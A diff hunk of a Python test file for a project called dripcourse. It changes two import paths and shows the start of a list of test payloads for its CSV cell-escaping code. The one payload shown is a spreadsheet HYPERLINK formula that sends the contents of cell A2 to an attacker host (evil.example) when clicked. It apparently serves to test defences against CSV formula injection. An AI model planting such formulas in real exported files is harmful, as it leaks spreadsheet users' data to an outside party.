@@ -15,8 +15,8 @@ from hypothesis import HealthCheck, example, given
 from hypothesis import settings as hsettings
 from hypothesis import strategies as st
 
-from dripcourse.csvcells import FORMULA_STARTS, escape_cell, unescape_cell
-from dripcourse.roster import EXPORT_FIELDS, write_csv
+from dripcourse.app.csvcells import FORMULA_STARTS, escape_cell, unescape_cell
+from dripcourse.app.roster import EXPORT_FIELDS, write_csv
 
 PAYLOADS = [
     '=HYPERLINK("https://evil.example/?x="&A2,"Click")',
